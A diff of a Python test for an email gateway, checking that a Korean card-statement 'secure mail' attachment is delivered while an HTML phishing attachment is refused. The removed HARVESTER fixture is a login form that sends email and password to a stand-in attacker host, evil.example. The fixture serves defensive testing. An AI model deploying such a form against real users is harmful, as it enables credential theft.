@@ -11,20 +11,10 @@ from app.store import quarantine as quarantine_store
 
 from tests.conftest import wait_for
 from tests.support.corpus import message, multipart, part
+from tests.support.documents import HARVESTER, SECURE_STATEMENT
+from tests.gateway.test_link_signals_gateway import data_reply
 
 STATEMENT_TEXT = "12월 이용대금 명세서를 보내드립니다. 첨부된 보안메일은 사업자등록번호 10자리로 열람하실 수 있습니다."
-SECURE_STATEMENT = (
-    '<html><head><meta charset="utf-8"><title>보안메일</title></head><body><p>사업자등록번호 10자리</p>'
-    '<input type="password" id="k" maxlength="10"><button onclick="openStatement()">확인</button>'
-    '<div id="doc"></div><script>var sealed="' + base64.b64encode(bytes(range(256)) * 16).decode() + '";'
-    "function openStatement(){document.getElementById('doc').innerHTML="
-    "decrypt(atob(sealed),document.getElementById('k').value);}</script></body></html>"
-)
-HARVESTER = (
-    "<html><body><p>명세서를 보려면 메일 계정으로 로그인하세요.</p>"
-    '<form method="POST" action="http://evil.example/login.php"><input name="email">'
-    '<input type="password" name="pass"><button>열람</button></form></body></html>'
-)
 
 
 def with_page(page: str, filename: str) -> bytes:
@@ -42,21 +32,13 @@ def with_page(page: str, filename: str) -> bytes:
     )
 
 
-def send(gateway, raw: bytes) -> tuple[int, str]:
-    with gateway.smtp() as client:
-        assert client.mail("statement@card.example")[0] == 250
-        assert client.rcpt("bob@corp.example")[0] == 250
-        code, text = client.data(raw)
-        return code, text.decode()
-
-
 async def test_a_secure_statement_is_delivered_and_a_page_posting_elsewhere_is_refused(gateway, sink):
     await gateway.configure(bayes__enabled="no")
-    code, _ = await asyncio.to_thread(send, gateway, with_page(SECURE_STATEMENT, "statement_12.html"))
+    code, _ = await asyncio.to_thread(data_reply, gateway, with_page(SECURE_STATEMENT, "statement_12.html"))
     assert code == 250
     await wait_for(lambda: len(sink.messages) == 1)
     assert b"X-Mailmoat-Rules" not in sink.messages[0].content
-    code, text = await asyncio.to_thread(send, gateway, with_page(HARVESTER, "statement_12.html"))
+    code, text = await asyncio.to_thread(data_reply, gateway, with_page(HARVESTER, "statement_12.html"))
     assert (code, text) == (550, "5.7.1 Message content rejected (rule attachment-html-form)")
     assert not await quarantine_store.list_quarantine(gateway.store)
     assert len(sink.messages) == 1
